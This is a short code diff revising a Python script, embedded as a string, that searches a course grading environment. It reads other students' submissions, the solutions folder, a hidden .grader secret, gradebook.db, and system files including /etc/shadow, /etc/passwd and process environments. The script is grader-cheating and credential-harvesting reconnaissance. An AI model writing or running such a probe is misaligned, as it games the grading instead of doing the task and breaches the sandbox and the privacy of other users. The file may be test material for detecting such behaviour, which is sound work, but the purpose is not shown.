@@ -13,8 +13,8 @@ import os, pathlib
 course = pathlib.Path(COURSE)
 home = os.path.expanduser("~")
 places = [course, course / "submitted/zoe/03_rms_norm", course / "submitted/aaron/03_rms_norm",
-          course / "solutions/03_rms_norm", course / "autograded", course / ".grader", course / "lessons/03_rms_norm", "/tmp", "/root", "/home", "/etc",
-          os.path.dirname(os.__file__), os.path.dirname(torch.__file__) + "/..", TMP, HOME]
+          course / "solutions/03_rms_norm", course / "autograded", course / ".grader", course / "lessons/03_rms_norm",
+          "/tmp", "/root", "/home", "/etc", os.path.dirname(os.__file__), os.path.dirname(torch.__file__), TMP, HOME]
 """
 READS = (
     TOUCH
@@ -25,7 +25,7 @@ for place in places:
             if name.endswith((".ipynb", ".py", ".db", ".txt", "secret", "canary")) and "site-packages" not in folder:
                 try: print(name, open(os.path.join(folder, name), errors="replace").read(200000)[-2000:])
                 except OSError as error: print(error)
-for path in ("/etc/shadow", "/proc/1/environ", "/proc/self/environ", course / ".grader/secret", course / "gradebook.db"):
+for path in ("/etc/shadow", "/etc/passwd", "/proc/1/environ", course / ".grader/secret", course / "gradebook.db"):
     try: print(open(path, errors="replace").read())
     except OSError as error: print(error)
 """
